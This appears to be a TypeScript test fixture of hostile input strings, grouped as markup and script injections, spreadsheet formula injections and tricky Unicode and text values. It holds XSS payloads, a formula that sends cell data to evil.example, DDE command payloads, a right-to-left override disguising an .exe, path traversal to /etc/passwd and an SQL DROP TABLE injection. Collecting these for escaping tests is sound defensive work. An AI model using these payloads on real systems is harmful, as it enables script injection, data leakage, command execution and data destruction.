// Texts that do harm where they are run, shown as markup, or opened as formulas.

/** The element that none of these texts may ever become. */
export const marker = 'hostile-mark';
const mark = `<${marker}></${marker}>`;
const script = 'window.__hostile=1';

/** Markup and script, by what would run it. */
export const markup = {
  'an element': `${mark}<b>bold</b>`,
  'a script element': `<script>${script}</script>${mark}`,
  'an image with an error handler': `<img src=x onerror="${script}">${mark}`,
  'a drawing with a load handler': `<svg onload=${script}>${mark}</svg>`,
  'the end of an attribute': `"><img src=x onerror=${script}>${mark}`,
  'the end of a script': `</script><script>${script}</script>${mark}`,
  'the end of a comment': `--><img src=x onerror=${script}>${mark}`,
  'the end of a title and a text area': `</title></textarea>${mark}`,
  'a frame with a document': `<iframe srcdoc="<script>parent.__hostile=1</script>"></iframe>${mark}`,
  'a style that loads': `<style>@import url(//evil.example/x);</style>${mark}`,
  'a script address': `javascript:${script}`,
  'a template of a framework': `{{constructor.constructor('${script}')()}}`,
  'a template literal': `\${${script}}`,
  'markup in entities': `&lt;script&gt;${script}&lt;/script&gt;`,
};

/** What spreadsheets take for a formula, by what it begins with. */
export const formulas = {
  'an equals sign': '=1+1',
  'a link': '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  'a command': "=cmd|'/C calc'!A0",
  'a plus sign': '+1+cmd|calc!A0',
  'a minus sign': '-1+cmd|calc!A0',
  'an at sign': '@SUM(A1:A9)',
  'a tab': '\t=1+1',
  'a carriage return': '\r=1+1',
  'a space': ' =1+1',
  'a non-breaking space': '\u00a0=1+1',
  'a zero-width space': '\u200b=1+1',
  'an apostrophe': "'=1+1",
  'a wide equals sign': '\uff1d1+1',
};

/** Letters that break careless code, or that readers take for others. */
export const letters = {
  Arabic: '\u0641\u0631\u064a\u0642 \u0627\u0644\u062a\u0642\u064a\u064a\u0645',
  Chinese: '\u8bc4\u4f30\u5c0f\u7ec4',
  'a right-to-left override': 'Team \u202egnp.exe',
  'right-to-left marks': '\u200fTeam\u200f One\u200e',
  'an isolate that is not closed': '\u2067Team',
  'zero-width joiners': 'Te\u200dam\u200c On\u2060e',
  'a hundred combining characters': `T${'\u0301\u0489'.repeat(50)}eam`,
  'an emoji of seven parts': '\u{1f469}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}',
  'letters beyond the basic plane': '\u{1d4e3}\u{1d4ee}\u{1d4ea}\u{1d4f6}',
  'a dotted capital I': '\u0130stanbul \u1e9e',
  'a replacement character': 'Te\ufffdam',
  'a noncharacter': 'Te\uffff\ufdd0am',
  'control characters beyond ASCII': 'Te\u007f\u0085\u009fam',
  'a line and a paragraph separator': 'Te\u2028a\u2029m',
  'words of a program': '__proto__',
  'a name of every object': 'constructor',
  'a path': '../../etc/passwd',
  'a format': '%s%n%x{0}',
  'a query': "'; DROP TABLE children;--",
};
